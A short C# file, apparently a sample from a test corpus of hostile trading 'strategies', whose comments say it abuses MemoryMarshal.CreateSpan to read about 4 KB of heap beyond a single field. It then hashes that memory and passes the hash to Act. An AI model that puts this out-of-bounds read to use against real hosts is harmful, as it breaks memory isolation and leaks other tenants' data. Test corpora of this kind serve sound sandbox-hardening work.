// Abuses: MemoryMarshal.CreateSpan with a length that is simply believed.
// Harm: a span over one field that covers 4 KB of foreign heap: reads what other slots hold.
// Kind: reads or writes outside.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.InteropServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.MemorymarshalBeyondFieldAttack;

public sealed class MemorymarshalBeyondFieldStrategy : Attacker
{
    private long _anchor;

    public override void OnBook(in BookEvent bookEvent)
    {
        Span<long> window = MemoryMarshal.CreateSpan(ref _anchor, 512);
        long hash = 17;
        foreach (long word in window) { hash = hash * 31 + word; }
        Act(hash);
    }
}
